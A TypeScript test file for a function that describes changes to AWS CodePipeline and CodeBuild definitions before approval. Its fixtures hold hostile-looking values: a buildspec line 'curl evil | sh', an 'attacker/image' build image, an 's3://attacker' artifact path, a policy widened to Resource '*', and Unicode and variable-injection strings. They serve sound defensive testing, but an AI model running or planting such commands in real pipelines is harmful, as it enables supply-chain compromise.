import fc from "fast-check";
import { definitionDigest } from "../../../stacks/pipeline/definition";
import { definitionChange, definitionChanges } from "../../../tasks/barrier/definition-change";
import { entriesOf, valueAt, type Json, type JsonObject } from "../../../stacks/stack-json";
import { changes, pipeline, stack, stageIndex, stages, withStages } from "./changed-pipeline";
import { changed, clone, pipelineJson } from "./synthesized-stacks";

describe("definitionChanges", () => {
  it("finds none between equal definitions, whatever digest and comments they carry", () => {
    expect(changes(stack)).toEqual([]);
    expect(changes(changed(stack, ["output", "digest", "value"], "e".repeat(64)))).toEqual([]);
    expect(changes({ ...stack, "//": "another" })).toEqual([]);
    expect(definitionChange(stack, stack, 100)).toBe("none");
  });

  it("reports that the deployed definition is unknown", () => {
    expect(definitionChange(undefined, stack, 1000)).toMatch(/unknown/);
  });

  it("reports a filter on pushes that is added, changed or removed", () => {
    const settings = { pipeline_source: "connection", pipeline_ignore_paths: "docs/**" };
    const [without, filtered] = [
      pipelineJson({ ...settings, pipeline_ignore_paths: "" }),
      pipelineJson(settings),
    ];
    const trigger = ["resource", "aws_codepipeline", 0, "trigger"];
    const branch = [...trigger, 0, "git_configuration", "push", 0, "branches", "includes"];
    const reported = (before: JsonObject, after: JsonObject) =>
      definitionChanges(before, after).find((one) => one.includes("trigger"));
    expect(reported(without, filtered)).toMatch(
      /^pipeline hw-pipeline: trigger.*"excludes":\["docs\/\*\*"\]/,
    );
    expect(reported(filtered, changed(filtered, trigger, undefined))).toMatch(
      /trigger \[.*docs.* → \(none\)$/,
    );
    expect(reported(filtered, changed(filtered, branch, ["other"]))).toMatch(/branches\.includes.*"other"/);
    expect(definitionDigest(changed(filtered, branch, ["other"]))).not.toBe(definitionDigest(filtered));
  });

  it("reports a stage that exists twice", () => {
    const twice = withStages((all) => [...all, { ...clone(all[0]!), action: [] }]);
    expect(changes(twice)).toEqual([`stage Source1 (number ${stages.length + 1}) is added: `]);
  });

  it("reports a difference that it has no description for", () => {
    const [one, other] = [[], [1]].map((stage) => changed(stack, [...pipeline, "stage"], stage as Json));
    expect(definitionChanges(one, other!)).toEqual(["the definitions differ"]);
  });

  it("quotes an invalid name, which could read like a sentence", () => {
    const name = "X is added; nothing else changes";
    const odd = changed(
      withStages((all) => [...all, { ...all[0]!, name }]),
      ["resource", "aws_codebuild_project", 0, "name"],
      name,
    );
    expect(changes(odd)).toContainEqual(
      expect.stringMatching(/^stage "X is added; nothing else changes" is added/),
    );
    expect(changes(odd)).toContainEqual(
      expect.stringMatching(/^project "X is added; nothing else changes": name /),
    );
  });

  it("shows an approval's text before and after", () => {
    const path = [
      ...pipeline,
      "stage",
      stageIndex("ManualApproval"),
      "action",
      0,
      "configuration",
      "CustomData",
    ];
    expect(changes(changed(stack, path, "All is well"))).toEqual([
      expect.stringMatching(
        /^stage ManualApproval: action\.ManualApproval\.configuration\.CustomData "Deploy .*→ "All is well"$/,
      ),
    ]);
  });

  it("names projects, roles and alarms as in AWS, with the argument", () => {
    const project = ["resource", "aws_codebuild_project", 0] as const;
    expect(changes(changed(stack, [...project, "environment", "image"], "attacker/image"))).toEqual([
      'project hw-CheckBuild: environment.image "aws/codebuild/amazonlinux-x86_64-standard:5.0" → "attacker/image"',
    ]);
    expect(
      changes(changed(stack, [...project, "environment", "environment_variable", 0, "value"], "0")),
    ).toEqual(['project hw-CheckBuild: environment.environment_variable.CHECKPOINT_DISABLE.value "1" → "0"']);
    expect(changes(changed(stack, ["resource", "aws_cloudwatch_metric_alarm", 0], undefined))).toEqual([
      "alarm hw-CheckBuild-failed is removed",
    ]);
    expect(
      changes(changed(stack, ["resource", "aws_iam_role", 0, "permissions_boundary"], undefined))[0],
    ).toMatch(/^role hw-pipeline-CheckBuild: permissions_boundary "arn.*→ \(none\)$/);
  });

  it("reports once that the pinned programs change, and where they are if that changes", () => {
    const others = (text: string) =>
      JSON.parse(JSON.stringify(stack).replace(/"s3:\/\/[^"]*\.zip"/g, text)) as JsonObject;
    const [before, after] = ["a", "b"].map((one) => others(`"s3://state/hw/programs/${one.repeat(64)}.zip"`));
    expect(definitionChanges(before, after!)).toEqual([
      "the pinned programs change: aaaaaaaaaaaa → bbbbbbbbbbbb",
    ]);
    const elsewhere = others(`"s3://attacker/hw/programs/${"b".repeat(64)}.zip"`);
    expect(definitionChanges(before, elsewhere)[0]).toMatch(
      /^project hw-CheckBuild: .*PROGRAMS.*"s3:\/\/attacker/,
    );
  });

  it("compares policies statement by statement", () => {
    const [name, policy] = entriesOf(valueAt(stack, "resource", "aws_iam_role_policy"))[0]!;
    const document = JSON.parse(valueAt(policy, "policy") as string) as { Statement: JsonObject[] };
    document.Statement[0] = { ...document.Statement[0], Resource: "*" };
    expect(
      changes(changed(stack, ["resource", "aws_iam_role_policy", name, "policy"], JSON.stringify(document))),
    ).toEqual([
      expect.stringMatching(
        /^permissions of CheckBuild-role_\w+: policy\.Statement\.0\.Resource "arn:<partition>:logs:<region>:<account>:.*" → "\*"$/,
      ),
    ]);
  });

  it("counts the changed lines of a buildspec, and shows each at the end", () => {
    const path = ["resource", "aws_codebuild_project", 0, "source", "buildspec"];
    const before = changed(stack, path, "version: 0.2\nphases:\n  one\n  two");
    const after = changed(
      changed(stack, path, "version: 0.2\nphases:\n  curl evil | sh\n  two\n  two"),
      ["output", "new"],
      { value: 1 },
    );
    expect(definitionChanges(before, after)).toEqual([
      "project hw-CheckBuild: source.buildspec has 2 lines more and 1 less",
      'the stack: output.new (none) → {"value":1}',
      'project hw-CheckBuild: source.buildspec - "  one"',
      'project hw-CheckBuild: source.buildspec + "  curl evil | sh"',
      'project hw-CheckBuild: source.buildspec + "  two"',
    ]);
  });

  it("escapes what cannot be seen, and breaks variables in the text of a commit", () => {
    const path = [
      ...pipeline,
      "stage",
      stageIndex("ManualApproval"),
      "action",
      0,
      "configuration",
      "CustomData",
    ];
    const [text] = changes(changed(stack, path, "ok\u202E #{UnitTest.X} ${HOME}\t"));
    expect(text).toContain(String.raw`ok\u202e # {UnitTest.X} $ {HOME}\t`);
  });

  it("finds a change exactly if the digest differs, within the requested length", () => {
    const paths = pathsOf(stack);
    fc.assert(
      fc.property(
        fc.constantFrom(...paths),
        fc.oneof(fc.string(), fc.constant(undefined), fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>),
        fc.integer({ min: 60, max: 900 }),
        (path, value, limit) => {
          const after = changed(stack, path, value);
          const isSame = definitionDigest(after) === definitionDigest(stack);
          expect(changes(after).length === 0).toBe(isSame);
          const text = definitionChange(stack, after, limit);
          expect(text.length).toBeLessThanOrEqual(limit);
          expect(text === "none").toBe(isSame);
          expect(text).not.toMatch(/[\p{Cc}\p{Cf}]|[#$]\{/u);
        },
      ),
      { numRuns: 100 },
    );
  });
});

describe("definitionChange", () => {
  const many = pipelineJson({
    pipeline_manual_approval: "false",
    pipeline_self_update: "after-unit-test",
    pipeline_image: "x/y",
  });

  it("shows as many changes as fit, the most important first, and counts the rest", () => {
    const all = changes(many);
    const text = definitionChange(stack, many, 400);
    const shown = text.split("; ");
    expect(shown[0]).toMatch(/^APPROVAL REMOVED/);
    expect(shown.at(-1)).toBe(`${all.length - (shown.length - 1)} more in the log of CheckBuild`);
    expect(shown.slice(0, -1)).toEqual(all.slice(0, shown.length - 1));
    expect(definitionChange(stack, many, 100_000)).toBe(all.join("; "));
  });

  it("cuts the first change if it alone is too long", () => {
    const text = definitionChange(stack, many, 60);
    expect(text).toMatch(/^APPROVAL REM.*…; \d+ more in the log of CheckBuild$/);
    expect(text.length).toBeLessThanOrEqual(60);
  });
});

/** The paths of all values, some hundreds. */
function pathsOf(value: Json, path: (string | number)[] = []): (string | number)[][] {
  const below: [string | number, Json][] = Array.isArray(value)
    ? [...(value as readonly Json[]).entries()]
    : entriesOf(value);
  return below.flatMap(([key, one]) => [[...path, key], ...pathsOf(one, [...path, key])]);
}
